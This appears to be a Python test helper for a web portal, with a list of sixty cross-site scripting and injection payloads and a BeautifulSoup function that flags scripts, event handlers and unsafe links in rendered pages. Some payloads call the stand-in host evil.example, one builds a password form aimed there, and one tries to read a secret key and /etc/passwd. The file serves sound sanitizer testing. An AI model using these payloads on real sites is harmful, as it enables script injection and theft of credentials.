"""Sixty things that somebody might type to make a reader's browser do something."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

from bs4 import BeautifulSoup, Tag

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>alert(1)//",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus="alert(1)" autofocus="',
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>t</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>t</p>",
    "<div style='position:fixed;inset:0'>t</div>",
    "<form action=//evil.example><input name=password><button>t</button></form>",
    "<button formaction=//evil.example form=q>t</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>t</details>",
    "<video src=//evil.example/x.mp4 onloadstart=alert(1)></video>",
    "<audio src onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>t</marquee>",
    "<a href=javascript:alert(1)>t</a>",
    "<a href='java\tscript:alert(1)'>t</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>t</a>",
    "<a href=vbscript:x onclick=alert(1)>t</a>",
    "<p hx-get=/sign-out hx-trigger=load>t</p>",
    "<p data-hx-post=/sign-out data-hx-trigger=load>t</p>",
    "<p hx-on::load='alert(1)'>t</p>",
    "<div id=main class=btn data-print data-copy=x>t</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "[t](javascript:alert(1))",
    "[t](JaVaScRiPt:alert(1))",
    "[t](java&#x73;cript:alert(1))",
    "[t](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[t](https://evil.example/" onmouseover="alert(1))',
    "[t](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![t](javascript:alert(1))",
    "![t](//evil.example/pixel.png)",
    "![t](https://evil.example/pixel.png 'x')",
    '![t" onerror="alert(1)](x)',
    "[t]: javascript:alert(1)\n\n[t]",
    "{{ config.SECRET_KEY }}{% include '/etc/passwd' %}{x.__class__}",
    "\u202e<scr\u0000ipt>alert(1)</scr\u0000ipt>\u2028",
)
SAFE_LINK = re.compile(r"(https?://|mailto:|tel:|/(?!/)|#|\?)")
# What the portal's own pages have beside a text that somebody wrote.
OWN_HX = {"hx-disable", "hx-post", "hx-trigger", "hx-target", "hx-sync"}
OWN_SCRIPTS = ("/static/",)


def dangers(html: str) -> list[str]:
    """What on a page could run, send or fetch, other than what the portal itself puts there."""
    page = BeautifulSoup(html, "html.parser")
    return [f"<{tag.name}> {danger}" for tag in page.find_all(True) for danger in _of(tag)]


def _of(tag: Tag) -> Iterator[str]:
    if tag.name in ("iframe", "object", "embed", "base", "style", "math", "video", "audio", "marquee", "template"):
        yield "is no tag of the portal"
    if tag.name == "script" and not str(tag.get("src", "")).startswith(OWN_SCRIPTS) and not is_data(tag):
        yield "is no script of the portal"
    if tag.name == "svg" and "icon" not in tag.get("class", []) and "seal" not in tag.get("class", []):
        yield "is no drawing of the portal"
    for name, value in tag.attrs.items():
        text = " ".join(value) if isinstance(value, list) else value
        if name.startswith("on") or name in ("style", "srcdoc", "ping", "http-equiv", "srcset"):
            yield f"has {name}"
        if name.startswith(("hx-", "data-hx-")) and name not in OWN_HX:
            yield f"has {name}"
        leads = name in ("href", "src", "action", "formaction", "data", "poster", "xlink:href")
        if leads and (not SAFE_LINK.match(text) or ("evil" in text and tag.name != "a")):
            yield f"leads to {text}"


def is_data(tag: Tag) -> bool:
    """A block of data, of which a browser runs nothing; nothing in it could end it."""
    if tag.get("type") != "application/ld+json" or "<" in str(tag.string):
        return False
    return isinstance(json.loads(str(tag.string)), dict)
